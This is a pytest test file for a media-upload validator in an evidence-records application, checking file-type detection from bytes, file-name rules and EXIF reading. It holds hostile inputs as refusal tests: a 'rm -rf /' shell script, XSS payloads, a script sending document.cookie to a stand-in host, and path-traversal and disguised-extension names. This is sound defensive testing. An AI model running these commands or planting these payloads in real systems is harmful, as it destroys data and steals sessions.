"""Specification of services.media: what an upload is (from its bytes), what its name may be, and
what its photo's EXIF says — plain functions, no HTTP, no database.

The type comes from the bytes against an allowlist: photos, videos, audio, PDF, OFD and office
documents are recognised; programs (whatever their name), content a browser could run, empty
files and everything else are refused with a message naming the file. EXIF gives the capture
time, position and camera, and never raises on junk. Heads are built here from real headers
(Pillow, zipfile) or from the bytes the format's specification lays down.
"""
from __future__ import annotations

import io
import random
import struct
import zipfile
from datetime import datetime

import pytest
from flask_babel import force_locale
from PIL import Image, ImageFile, features
from PIL.TiffImagePlugin import IFDRational

from enforcement import sample_files
from enforcement.services import media
from enforcement.services.errors import DomainError
from enforcement.services.media import ExifInfo, Sniffed, check_filename, read_exif, sniff

NOT_ACCEPTED = ("The content of %s is not a format accepted for records (photos, videos, audio, PDF or "
                "office documents).")


@pytest.fixture
def english(app):
    """Messages are asserted in English (the msgids), whatever translations are compiled."""
    with force_locale("en"):
        yield


def refusal(head: bytes, name: str = "evidence.jpg") -> str:
    with pytest.raises(DomainError) as exc:
        sniff(head, name)
    return exc.value.message


# --- building heads ----------------------------------------------------------------------------

def box(kind: bytes, payload: bytes = b"") -> bytes:
    return struct.pack(">I", 8 + len(payload)) + kind + payload


def full_box(kind: bytes, version: int, payload: bytes) -> bytes:
    return box(kind, bytes([version, 0, 0, 0]) + payload)


def ftyp(major: bytes, *compatible: bytes) -> bytes:
    return box(b"ftyp", major + b"\x00\x00\x02\x00" + b"".join(compatible))


def track(handler: bytes) -> bytes:
    hdlr = full_box(b"hdlr", 0, bytes(4) + handler + bytes(12) + b"Handler\x00")
    return box(b"trak", box(b"tkhd", bytes(84)) + box(b"mdia", box(b"mdhd", bytes(24)) + hdlr))


def moov(*handlers: bytes) -> bytes:
    return box(b"moov", box(b"mvhd", bytes(100)) + b"".join(track(h) for h in handlers))


def riff(form: bytes, first_chunk: bytes) -> bytes:
    return b"RIFF" + struct.pack("<I", 4 + len(first_chunk) + 1000) + form + first_chunk


def ebml(doctype: bytes) -> bytes:
    body = b"\x42\x86\x81\x01\x42\xf7\x81\x01\x42\xf2\x81\x04\x42\xf3\x81\x08"
    if doctype:
        body += b"\x42\x82" + bytes([0x80 | len(doctype)]) + doctype
    body += b"\x42\x87\x81\x04\x42\x85\x81\x02"
    return b"\x1a\x45\xdf\xa3" + bytes([0x80 | len(body)]) + body + b"\x18\x53\x80\x67\x01" + bytes(40)


def ts_packets(count: int, stride: int = 188) -> bytes:
    packet = b"\x47\x40\x00\x10" + bytes(184)
    return b"".join((bytes(4) if stride == 192 else b"") + packet for _ in range(count))


def mp3_frame() -> bytes:
    """MPEG-1 layer III, 128 kbit/s, 44.1 kHz, no padding: 144 * 128000 / 44100 = 417 bytes."""
    return b"\xff\xfb\x90\x00" + bytes(413)


def adts_frame(length: int = 200) -> bytes:
    """AAC-LC, 44.1 kHz (index 4), stereo, no CRC."""
    header = bytes([0xFF, 0xF1, (1 << 6) | (4 << 2), (2 << 6) | ((length >> 11) & 3), (length >> 3) & 0xFF,
                    ((length & 7) << 5) | 0x1F, 0xFC])
    return header + bytes(length - 7)


def ogg(first_packet: bytes) -> bytes:
    return b"OggS\x00\x02" + bytes(8) + b"\x01\x00\x00\x00" + bytes(8) + b"\x01" + bytes([len(first_packet)]) \
        + first_packet


def zip_of(*names: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in names:
            archive.writestr(name, "<x/>" if name.endswith(".xml") else "content")
    return out.getvalue()


OLE_MAGIC = bytes.fromhex("d0cf11e0a1b11ae1")
MSI_CLSID = bytes.fromhex("84100c000000000000c0000000000046")


def ole(*streams: str, first_stream: bytes = b"", root_clsid: bytes = bytes(16), directory_sector: int = 1) -> bytes:
    """An OLE2 compound file (512-byte sectors): header, sector 0 (the first stream), then the
    directory — Root Entry and the named streams — at `directory_sector`."""
    header = bytearray(512)
    header[0:8] = OLE_MAGIC
    header[24:34] = struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
    header[48:52] = struct.pack("<I", directory_sector)

    def entry(name: str, kind: int, clsid: bytes = bytes(16)) -> bytes:
        raw = bytearray(128)
        encoded = name.encode("utf-16-le") + b"\x00\x00"
        raw[:len(encoded)] = encoded
        raw[64:67] = struct.pack("<HB", len(encoded), kind)
        raw[80:96] = clsid
        return bytes(raw)

    directory = entry("Root Entry", 5, root_clsid) + b"".join(entry(name, 2) for name in streams)
    sectors = [first_stream.ljust(512, b"\x00")] + [bytes(512)] * (directory_sector - 1)
    return bytes(header) + b"".join(sectors) + directory.ljust(512, b"\x00")


def picture(fmt: str, exif: Image.Exif | None = None, size=(16, 12)) -> bytes:
    out = io.BytesIO()
    options = {"exif": exif} if exif is not None else {}
    Image.new("RGB", size, (120, 140, 90)).save(out, fmt, **options)
    return out.getvalue()


# --- sniff: what is accepted ----------------------------------------------------------------------

ACCEPTED = [
    # pictures
    ("jpeg", picture("JPEG"), "image/jpeg", "image", "jpg"),
    ("png", picture("PNG"), "image/png", "image", "png"),
    ("gif", picture("GIF"), "image/gif", "image", "gif"),
    ("webp", riff(b"WEBP", b"VP8 " + struct.pack("<I", 10) + bytes(10)), "image/webp", "image", "webp"),
    ("tiff-intel", b"II*\x00\x08\x00\x00\x00" + bytes(32), "image/tiff", "image", "tiff"),
    ("tiff-motorola", b"MM\x00*\x00\x00\x00\x08" + bytes(32), "image/tiff", "image", "tiff"),
    ("heic", ftyp(b"heic", b"mif1", b"heic") + full_box(b"meta", 0, b""), "image/heic", "image", "heic"),
    ("heif", ftyp(b"mif1", b"mif1", b"heic") + full_box(b"meta", 0, b""), "image/heif", "image", "heif"),
    ("avif", ftyp(b"avif", b"avif", b"mif1", b"miaf") + full_box(b"meta", 0, b""), "image/avif", "image", "avif"),
    # videos
    ("mp4", sample_files.mp4(), "video/mp4", "video", "mp4"),
    ("mp4-mp42", ftyp(b"mp42", b"isom", b"mp42") + box(b"mdat", bytes(64)), "video/mp4", "video", "mp4"),
    ("mp4-moov-with-video-and-sound", ftyp(b"isom", b"isom", b"avc1") + moov(b"vide", b"soun"),
     "video/mp4", "video", "mp4"),
    ("mp4-unknown-major-known-compatible", ftyp(b"zzzz", b"zzzz", b"mp42") + box(b"mdat"), "video/mp4", "video", "mp4"),
    ("m4v", ftyp(b"M4V ", b"M4V ", b"M4A ", b"mp42") + box(b"mdat"), "video/x-m4v", "video", "m4v"),
    ("mov", ftyp(b"qt  ", b"qt  ") + box(b"wide") + box(b"mdat", bytes(64)), "video/quicktime", "video", "mov"),
    ("mov-without-ftyp", box(b"wide") + box(b"mdat", bytes(64)), "video/quicktime", "video", "mov"),
    ("mov-moov-first", moov(b"vide") + box(b"mdat"), "video/quicktime", "video", "mov"),
    ("3gp", ftyp(b"3gp4", b"isom", b"3gp4") + box(b"mdat"), "video/3gpp", "video", "3gp"),
    ("3g2", ftyp(b"3g2a", b"3g2a") + box(b"mdat"), "video/3gpp2", "video", "3g2"),
    ("avi", riff(b"AVI ", b"LIST" + struct.pack("<I", 4) + b"hdrl"), "video/x-msvideo", "video", "avi"),
    ("mkv", ebml(b"matroska"), "video/x-matroska", "video", "mkv"),
    ("webm", ebml(b"webm"), "video/webm", "video", "webm"),
    ("mpeg-ts", ts_packets(5), "video/mp2t", "video", "ts"),
    ("mpeg-ts-short-head", ts_packets(3), "video/mp2t", "video", "ts"),
    ("m2ts", ts_packets(5, stride=192), "video/mp2t", "video", "ts"),
    ("mpeg-ps", b"\x00\x00\x01\xba\x44\x00\x04\x00\x04\x01\x01\x89\xc3\xf8" + bytes(64), "video/mpeg", "video", "mpg"),
    # sound
    ("mp3-id3", sample_files.mp3(), "audio/mpeg", "audio", "mp3"),
    ("mp3-frames", mp3_frame() * 2, "audio/mpeg", "audio", "mp3"),
    ("flac-behind-id3", b"ID3\x03\x00\x00\x00\x00\x00\x0a" + bytes(10) + b"fLaC" + bytes(40),
     "audio/flac", "audio", "flac"),
    ("wav", riff(b"WAVE", b"fmt " + struct.pack("<IHHIIHH", 16, 1, 1, 8000, 16000, 2, 16)),
     "audio/wav", "audio", "wav"),
    ("m4a", ftyp(b"M4A ", b"M4A ", b"mp42", b"isom") + box(b"mdat"), "audio/mp4", "audio", "m4a"),
    ("mp4-with-sound-only", ftyp(b"isom", b"isom", b"mp42") + moov(b"soun") + box(b"mdat"),
     "audio/mp4", "audio", "m4a"),
    ("3gp-with-sound-only", ftyp(b"3gp4", b"3gp4") + moov(b"soun") + box(b"mdat"), "audio/3gpp", "audio", "3gp"),
    ("aac-adts", adts_frame() * 2, "audio/aac", "audio", "aac"),
    ("amr", b"#!AMR\n" + bytes(64), "audio/amr", "audio", "amr"),
    ("amr-wb", b"#!AMR-WB\n" + bytes(64), "audio/amr-wb", "audio", "awb"),
    ("ogg-opus", ogg(b"OpusHead\x01\x02\x38\x01\x80\xbb\x00\x00\x00\x00\x00"), "audio/ogg", "audio", "opus"),
    ("ogg-vorbis", ogg(b"\x01vorbis" + bytes(22)), "audio/ogg", "audio", "ogg"),
    ("flac", b"fLaC\x00\x00\x00\x22" + bytes(34), "audio/flac", "audio", "flac"),
    # documents
    ("pdf", sample_files.pdf("x"), "application/pdf", "document", "pdf"),
    ("ofd", zip_of("OFD.xml", "Doc_0/Document.xml", "Doc_0/Pages/Page_0/Content.xml"), "application/ofd", "document",
     "ofd"),
    ("ofd-not-first", zip_of("Doc_0/Document.xml", "OFD.xml"), "application/ofd", "document", "ofd"),
    ("docx", zip_of("[Content_Types].xml", "_rels/.rels", "word/document.xml"),
     "application/vnd.openxmlformats-officedocument.wordprocessingml.document", "document", "docx"),
    ("xlsx", zip_of("[Content_Types].xml", "_rels/.rels", "xl/workbook.xml", "xl/worksheets/sheet1.xml"),
     "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "document", "xlsx"),
    ("doc", ole("1Table", "WordDocument"), "application/msword", "document", "doc"),
    ("xls", ole("Workbook"), "application/vnd.ms-excel", "document", "xls"),
    ("xls-biff5", ole("Book"), "application/vnd.ms-excel", "document", "xls"),
    # the directory beyond the head: known by the first stream, which Office writes in sector 0
    ("doc-directory-beyond-head", ole(first_stream=b"\xec\xa5\xc1\x00", directory_sector=200)[:1024],
     "application/msword", "document", "doc"),
    ("xls-directory-beyond-head", ole(first_stream=b"\x09\x08\x10\x00\x00\x06\x05\x00", directory_sector=200)[:1024],
     "application/vnd.ms-excel", "document", "xls"),
]


@pytest.mark.parametrize("head, content_type, kind, extension",
                         [pytest.param(*row[1:], id=row[0]) for row in ACCEPTED])
def test_every_allowed_format_is_recognised_from_its_bytes(head, content_type, kind, extension):
    assert sniff(head, "upload.bin") == Sniffed(content_type, kind, extension)


def test_the_type_comes_from_the_bytes_never_from_the_name():
    png = picture("PNG")
    for name in ("photo.jpg", "photo.png", "scan.pdf", "photo", "photo.exe", "现场照片.JPG"):
        assert sniff(png, name) == Sniffed("image/png", "image", "png")


def test_a_real_photo_from_a_phone_and_a_64_kib_head_of_it_are_recognised():
    photo = _noisy_jpeg(_full_exif())
    assert len(photo) > 256 * 1024
    assert sniff(photo[:64 * 1024], "IMG_0001.jpg") == Sniffed("image/jpeg", "image", "jpg")


def test_every_accepted_type_has_one_of_the_four_kinds():
    verdicts = [rule.verdict for rule in media.RULES if isinstance(rule.verdict, Sniffed)]
    verdicts += [sniffed for _brands, sniffed in media.ISO_BRANDS] + list(media.SOUND_ONLY.values())
    verdicts += [sniffed for _prefix, sniffed in media.OGG_CODECS]
    for sniffed in verdicts:
        assert sniffed.kind in {"image", "video", "audio", "document"}, sniffed
        assert "/" in sniffed.content_type and sniffed.extension and "." not in sniffed.extension


# --- sniff: what is refused -----------------------------------------------------------------------

PROGRAMS = [
    ("windows-pe", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + bytes(50) + b"This program cannot be run in DOS mode"),
    ("elf", b"\x7fELF\x02\x01\x01\x00" + bytes(56)),
    ("mach-o-32", b"\xfe\xed\xfa\xce" + bytes(28)),
    ("mach-o-32-swapped", b"\xce\xfa\xed\xfe" + bytes(28)),
    ("mach-o-64", b"\xfe\xed\xfa\xcf" + bytes(28)),
    ("mach-o-64-swapped", b"\xcf\xfa\xed\xfe" + bytes(28)),
    ("mach-o-universal", b"\xca\xfe\xba\xbe\x00\x00\x00\x02" + bytes(40)),
    ("mach-o-universal-swapped", b"\xbe\xba\xfe\xca" + bytes(40)),
    ("mach-o-universal-64", b"\xca\xfe\xba\xbf\x00\x00\x00\x02" + bytes(40)),
    ("mach-o-universal-64-swapped", b"\xbf\xba\xfe\xca" + bytes(40)),
    ("java-class", b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(40)),
    ("shebang-script", b"#!/bin/sh\nrm -rf /\n"),
    ("shebang-python", b"#!/usr/bin/env python3\nimport os\n"),
    ("shebang-behind-bom", b"\xef\xbb\xbf#!/bin/bash\necho hi\n"),
    ("windows-shortcut", bytes.fromhex("4c0000000114020000000000c000000000000046") + bytes(56)),
    ("android-dex", b"dex\n035\x00" + bytes(100)),
    ("webassembly", b"\x00asm\x01\x00\x00\x00" + bytes(16)),
    ("java-archive", zip_of("META-INF/MANIFEST.MF", "a/Main.class")),
    ("android-package", zip_of("AndroidManifest.xml", "classes.dex", "resources.arsc")),
    ("docx-carrying-an-app", zip_of("[Content_Types].xml", "word/document.xml", "classes.dex")),
    ("windows-installer", ole("\u4840\u3b3f", root_clsid=MSI_CLSID)),
]


@pytest.mark.parametrize("head", [pytest.param(head, id=name) for name, head in PROGRAMS])
def test_a_program_is_refused_as_a_program_whatever_its_name(english, head):
    message = refusal(head, "现场照片.jpg")
    assert "is a program, not evidence" in message and "现场照片.jpg" in message


def test_an_exe_renamed_jpg_gets_the_program_message(english):
    assert refusal(PROGRAMS[0][1], "photo.jpg") == ("The file photo.jpg is a program, not evidence, whatever its "
                                                    "name says. Programs cannot be added to a record.")


SVG = b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(1)"><rect/></svg>'
ACTIVE = [
    ("html", b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"),
    ("html-lowercase-doctype", b"<!doctype html>\n<p>hello</p>"),
    ("html-behind-bom", b"\xef\xbb\xbf<html><body>x</body></html>"),
    ("html-behind-blanks", b" \r\n\t\n   <html><body>x</body></html>"),
    ("html-behind-a-comment", b"<!-- saved from url=(0014)about:internet -->\n<html></html>"),
    ("html-in-utf16-with-bom", "<html><script>alert(1)</script></html>".encode("utf-16")),
    ("html-fragment", b"<img src=x onerror=alert(1)>"),
    ("html-after-some-text", "检查记录\n\n<script>alert(1)</script>".encode()),
    ("svg", SVG),
    ("svg-behind-xml-prolog", b'<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n' + SVG),
    ("svg-behind-bom-blanks-prolog-doctype", b'\xef\xbb\xbf  \n<?xml version="1.0"?>\n<!DOCTYPE svg PUBLIC '
     b'"-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n' + SVG),
    ("svg-in-utf16-with-bom", SVG.decode().encode("utf-16")),
    ("xml", b'<?xml version="1.0"?><record><name>x</name></record>'),
    ("javascript-function", b"function steal() {\n  fetch('/api/v1/cases');\n}\n"),
    ("javascript-document", b"document.location = 'https://example.invalid/?c=' + document.cookie;"),
    ("javascript-const-arrow", b"const go = () => window.open('x');\n"),
]


@pytest.mark.parametrize("head", [pytest.param(head, id=name) for name, head in ACTIVE])
def test_content_a_browser_could_run_is_refused(english, head):
    message = refusal(head, "笔录.pdf")
    assert "could run in a browser" in message and "笔录.pdf" in message


def test_an_empty_file_is_refused_as_empty(english):
    assert refusal(b"", "现场照片.jpg") == "The file 现场照片.jpg is empty."


UNKNOWN = [
    ("random-bytes", random.Random(20261103).randbytes(4096)),
    ("plain-text", b"Notes on the inspection of 3 November: the owner was absent.\n"),
    ("chinese-text-gb18030", "现场检查笔录：当事人不在场。".encode("gb18030")),
    ("blanks", b"   \n\n  "),
    ("gzip", b"\x1f\x8b\x08\x00" + bytes(40)),
    ("rar", b"Rar!\x1a\x07\x01\x00" + bytes(40)),
    ("7z", b"7z\xbc\xaf\x27\x1c" + bytes(40)),
    ("zip-of-other-things", zip_of("notes.txt", "photo.jpg")),
    ("zip-content-types-without-word-or-xl", zip_of("[Content_Types].xml", "ppt/presentation.xml")),
    ("ole-of-another-program", ole("PowerPoint Document", "Current User")),
    ("ebml-without-doctype", ebml(b"")),
    ("ftyp-of-unknown-brands", ftyp(b"zzzz", b"yyyy", b"xxxx") + box(b"mdat")),
    ("one-mpeg-audio-frame-then-junk", mp3_frame() + b"not audio" * 60),
    ("two-ts-packets-only", ts_packets(2)),
    ("ts-sync-missing-in-the-third-packet", ts_packets(2) + b"\x00" * 188),
    ("id3-with-a-bad-size", b"ID3\x04\x00\x00\xff\x00\x00\x00" + bytes(40)),
    ("riff-of-another-form", riff(b"CDXA", b"fmt " + bytes(20))),
    ("ogg-of-unknown-codec", ogg(b"\x01unknown" + bytes(20))),
    ("pdf-not-at-the-start", b"junk%PDF-1.7\n"),
    ("postscript", b"%!PS-Adobe-3.0\n%%EOF\n"),
]


@pytest.mark.parametrize("head", [pytest.param(head, id=name) for name, head in UNKNOWN])
def test_anything_else_is_refused_as_not_accepted(english, head):
    assert refusal(head, "file.jpg") == NOT_ACCEPTED % "file.jpg"


def test_sniff_never_fails_otherwise_than_with_a_refusal(english):
    """Truncations of every accepted head, and random tails behind each magic number, give a type
    or a DomainError — never another exception."""
    rng = random.Random(7)
    heads = [row[1] for row in ACCEPTED] + [head for _name, head in PROGRAMS + UNKNOWN]
    samples = [head[:cut] for head in heads for cut in range(1, min(len(head), 600), 13)]
    samples += [head[:cut] + rng.randbytes(rng.randrange(0, 300)) for head in heads for cut in (4, 8, 12, 16, 30)]
    for sample in samples:
        try:
            result = sniff(sample, "x")
        except DomainError:
            continue
        assert isinstance(result, Sniffed)


# --- check_filename -----------------------------------------------------------------------------

@pytest.mark.parametrize("name, expected", [
    ("现场照片 2026-11-03.jpg", "现场照片 2026-11-03.jpg"),
    ("  询问笔录（第一次）.pdf  ", "询问笔录（第一次）.pdf"),
    ("\u3000执法记录仪 0003.MP4\u3000", "执法记录仪 0003.MP4"),
    ("IMG_0001.HEIC", "IMG_0001.HEIC"),
    ("..photo.jpg", "..photo.jpg"),
    ("a" * 200, "a" * 200),
])
def test_file_names_as_devices_give_them_are_kept(name, expected):
    assert check_filename(name) == expected


@pytest.mark.parametrize("name, words", [
    ("", "missing"),
    ("   ", "missing"),
    ("a" * 201, "longer than 200 characters"),
    ("x" * 197 + ".jpeg", "longer than 200 characters"),
    ("../../etc/passwd.jpg", "slash or backslash"),
    ("photos/现场.jpg", "slash or backslash"),
    ("C:\\Users\\警员\\现场.jpg", "slash or backslash"),
    (".", "is not a file name"),
    ("..", "is not a file name"),
    (" .. ", "is not a file name"),
    ("photo\x00.jpg", "control characters"),
    ("photo\n.jpg", "control characters"),
    ("photo.jpg\n", "control characters"),
    ("photo\r.jpg", "control characters"),
    ("photo\t.jpg", "control characters"),
    ("photo\x7f.jpg", "control characters"),
    ("evil\u202egpj.exe", "control characters"),
    ("\u200bphoto.jpg", "control characters"),
    ("photo\u2028.jpg", "control characters"),
    ("photo\u2029.jpg", "control characters"),
    ("photo\ud800.jpg", "control characters"),
])
def test_bad_file_names_are_refused_with_the_reason(english, name, words):
    with pytest.raises(DomainError) as exc:
        check_filename(name)
    assert words in exc.value.message


# --- read_exif ---------------------------------------------------------------------------------

def _rational(value: float) -> IFDRational:
    return IFDRational(round(value * 10000), 10000)


def _dms(value: float) -> tuple:
    degrees = int(value)
    minutes = int((value - degrees) * 60)
    seconds = (value - degrees - minutes / 60) * 3600
    return (_rational(degrees), _rational(minutes), _rational(seconds))


def _exif(*, original: str | None = None, modified: str | None = None, make: str | None = None,
          model: str | None = None, gps: dict | None = None) -> Image.Exif:
    exif = Image.Exif()
    if make is not None:
        exif[0x010F] = make
    if model is not None:
        exif[0x0110] = model
    if modified is not None:
        exif[0x0132] = modified
    if original is not None:
        exif.get_ifd(0x8769)[0x9003] = original
    if gps is not None:
        exif.get_ifd(0x8825).update(gps)
    return exif


def _gps(latitude: float, longitude: float, lat_ref: str = "N", lon_ref: str = "E") -> dict:
    return {1: lat_ref, 2: _dms(latitude), 3: lon_ref, 4: _dms(longitude)}


def _full_exif(lat_ref: str = "N", lon_ref: str = "E") -> Image.Exif:
    return _exif(original="2026:11:03 09:41:05", modified="2026:11:04 18:00:00", make="HUAWEI", model="ELS-AN00",
                 gps=_gps(25.04, 102.71, lat_ref, lon_ref))


FULL = ExifInfo(captured_at=datetime(2026, 11, 3, 9, 41, 5), latitude=25.04, longitude=102.71,
                device="HUAWEI ELS-AN00")


def _noisy_jpeg(exif: Image.Exif, size=(640, 480)) -> bytes:
    """A JPEG of random pixels: large (little compression), EXIF in its first kilobytes."""
    pixels = random.Random(1).randbytes(size[0] * size[1] * 3)
    out = io.BytesIO()
    Image.frombytes("RGB", size, pixels).save(out, "JPEG", exif=exif, quality=95)
    return out.getvalue()


def test_capture_time_position_and_camera_of_a_jpeg():
    assert read_exif(picture("JPEG", _full_exif())) == FULL


@pytest.mark.parametrize("lat_ref, lon_ref, latitude, longitude", [
    ("S", "W", -25.04, -102.71), ("S", "E", -25.04, 102.71), ("N", "W", 25.04, -102.71)])
def test_south_and_west_are_negative(lat_ref, lon_ref, latitude, longitude):
    info = read_exif(picture("JPEG", _full_exif(lat_ref, lon_ref)))
    assert (info.latitude, info.longitude) == (pytest.approx(latitude, abs=1e-6), pytest.approx(longitude, abs=1e-6))


def test_without_date_time_original_the_date_time_is_taken():
    info = read_exif(picture("JPEG", _exif(modified="2026:11:04 18:00:00")))
    assert info.captured_at == datetime(2026, 11, 4, 18, 0, 0)
    impossible = read_exif(picture("JPEG", _exif(original="0000:00:00 00:00:00", modified="2026:11:04 18:00:00")))
    assert impossible.captured_at == datetime(2026, 11, 4, 18, 0, 0)
    assert read_exif(picture("JPEG", _exif(original="    :  :     :  :  "))).captured_at is None


def test_a_64_kib_head_of_a_big_jpeg_still_gives_its_exif():
    photo = _noisy_jpeg(_full_exif())
    assert len(photo) > 256 * 1024  # the truncation really cuts the picture
    assert read_exif(photo[:64 * 1024]) == FULL
    assert read_exif(photo[:256 * 1024]) == FULL


def test_a_photo_claiming_400_megapixels_gives_its_exif_and_nothing_is_decoded():
    photo = bytearray(picture("JPEG", _full_exif()))
    sof = photo.index(b"\xff\xc0")
    photo[sof + 5:sof + 9] = struct.pack(">HH", 20000, 20000)  # height, width
    assert read_exif(bytes(photo)) == FULL


class PixelsDecoded(BaseException):
    """Raised by a patched load(): a BaseException, so that read_exif's guard cannot swallow it."""


def test_png_webp_and_tiff_give_their_exif_without_decoding_pixels(monkeypatch):
    exif = _full_exif()
    # Pillow writes no Exif or GPS sub-IFD into a TIFF: only IFD0's DateTime, Make and Model are there.
    expected = {"PNG": FULL, "TIFF": ExifInfo(captured_at=datetime(2026, 11, 4, 18, 0, 0), device="HUAWEI ELS-AN00")}
    if features.check("webp"):
        expected["WEBP"] = FULL
    heads = {fmt: picture(fmt, exif) for fmt in expected}
    heads["JPEG"], expected["JPEG"] = picture("JPEG", exif), FULL
    heads["HEIC"], expected["HEIC"] = _heif(exif, 0), FULL
    heads["PNG without EXIF"], expected["PNG without EXIF"] = picture("PNG"), ExifInfo()  # getexif() would decode

    def refuse(*_args, **_kwargs):
        raise PixelsDecoded()
    monkeypatch.setattr(ImageFile.ImageFile, "load", refuse)
    monkeypatch.setattr(Image.Image, "load", refuse)
    for fmt, head in heads.items():
        assert read_exif(head) == expected[fmt], fmt


def _heif(exif: Image.Exif, iloc_version: int) -> bytes:
    """A HEIC file: ftyp, meta (hdlr, iinf with an image item and an Exif item, iloc) and mdat, the
    Exif item's data being a 4-byte offset to the TIFF header, then "Exif\\0\\0" and the TIFF."""
    payload = struct.pack(">I", 6) + exif.tobytes()  # tobytes() starts with "Exif\0\0"
    image_data = bytes(32)

    def meta(at: int) -> bytes:
        hdlr = full_box(b"hdlr", 0, bytes(4) + b"pict" + bytes(12) + b"\x00")
        infe = [full_box(b"infe", 2, struct.pack(">HH", 1, 0) + b"hvc1\x00"),
                full_box(b"infe", 2, struct.pack(">HH", 2, 0) + b"Exif\x00")]
        iinf = full_box(b"iinf", 0, struct.pack(">H", 2) + b"".join(infe))
        if iloc_version == 0:  # 4-byte offsets and lengths, no base offset
            items = struct.pack(">HHHII", 1, 0, 1, at + len(payload), len(image_data)) \
                + struct.pack(">HHHII", 2, 0, 1, at, len(payload))
            iloc = full_box(b"iloc", 0, b"\x44\x00" + struct.pack(">H", 2) + items)
        else:  # version 1: construction method, a 4-byte base offset and extent offsets from it
            items = struct.pack(">HHHIHII", 1, 0, 0, at, 1, len(payload), len(image_data)) \
                + struct.pack(">HHHIHII", 2, 0, 0, at, 1, 0, len(payload))
            iloc = full_box(b"iloc", 1, b"\x44\x40" + struct.pack(">H", 2) + items)
        return full_box(b"meta", 0, hdlr + iinf + iloc)

    head = ftyp(b"heic", b"mif1", b"heic")
    at = len(head) + len(meta(0)) + 8
    return head + meta(at) + box(b"mdat", payload + image_data)


@pytest.mark.parametrize("iloc_version", [0, 1])
def test_a_heic_photo_gives_its_exif(iloc_version):
    heic = _heif(_full_exif("S", "W"), iloc_version)
    assert sniff(heic, "IMG_0001.HEIC") == Sniffed("image/heic", "image", "heic")
    assert read_exif(heic) == ExifInfo(captured_at=datetime(2026, 11, 3, 9, 41, 5), latitude=-25.04,
                                       longitude=-102.71, device="HUAWEI ELS-AN00")


def test_no_exif_gives_an_empty_exif_info():
    assert read_exif(picture("PNG")) == ExifInfo()
    assert read_exif(picture("JPEG")) == ExifInfo()
    assert read_exif(picture("GIF")) == ExifInfo()
    assert read_exif(sample_files.pdf("x")) == ExifInfo()


@pytest.mark.filterwarnings("ignore::UserWarning")  # Pillow's "possibly corrupt EXIF" notes on damaged data
def test_junk_truncated_or_damaged_input_gives_an_empty_result_and_never_raises():
    rng = random.Random(11)
    photo = picture("JPEG", _full_exif())
    heads = [b"", b"\x00", rng.randbytes(70000), b"\xff\xd8" + rng.randbytes(5000), b"\xff\xd8\xff\xe1\xff\xff",
             b"\x89PNG\r\n\x1a\n" + rng.randbytes(500), b"RIFF\x00\x00\x00\x00WEBP" + rng.randbytes(500),
             b"II*\x00" + rng.randbytes(500), b"MM\x00*\xff\xff\xff\xff", ftyp(b"heic") + rng.randbytes(500),
             _heif(_full_exif(), 0)[:60]]
    truncated = [photo[:cut] for cut in range(0, 400, 3)]  # cut inside the EXIF segment
    damaged = []
    for _ in range(300):
        copy = bytearray(photo)
        for _flip in range(rng.randrange(1, 6)):
            copy[rng.randrange(2, 300)] = rng.randrange(256)
        damaged.append(bytes(copy))
    for head in heads:
        assert read_exif(head) == ExifInfo()
    for head in truncated + damaged:  # partly readable at best: never an exception
        assert isinstance(read_exif(head), ExifInfo)


@pytest.mark.parametrize("gps, why", [
    (_gps(0, 0), "0,0 is a receiver without a fix writing zeros"),
    ({**_gps(25.04, 102.71), 9: "V"}, "GPSStatus V: the measurement is void"),
    ({2: _dms(25.04), 3: "E", 4: _dms(102.71)}, "no latitude hemisphere"),
    ({**_gps(25.04, 102.71), 1: "X"}, "an unknown hemisphere"),
    ({**_gps(25.04, 102.71), 2: (IFDRational(1, 0), _rational(2), _rational(24))}, "a zero denominator"),
    (_gps(95, 102.71), "a latitude beyond 90"),
    ({1: "N", 2: _dms(25.04)}, "no longitude"),
])
def test_an_impossible_or_void_position_is_no_position(gps, why):
    info = read_exif(picture("JPEG", _exif(original="2026:11:03 09:41:05", gps=gps)))
    assert (info.latitude, info.longitude) == (None, None), why
    assert info.captured_at == datetime(2026, 11, 3, 9, 41, 5)  # the rest is still read


@pytest.mark.parametrize("make, model, device", [
    ("HUAWEI", "ELS-AN00", "HUAWEI ELS-AN00"),
    ("Canon", "Canon EOS R5", "Canon EOS R5"),
    ("  Xiaomi\x00\x00", " 23127PN0CC  ", "Xiaomi 23127PN0CC"),
    ("Hikvision", None, "Hikvision"),
    (None, "DSJ-Z5", "DSJ-Z5"),
    (None, None, ""),
])
def test_device_is_make_and_model(make, model, device):
    assert read_exif(picture("JPEG", _exif(make=make, model=model))).device == device
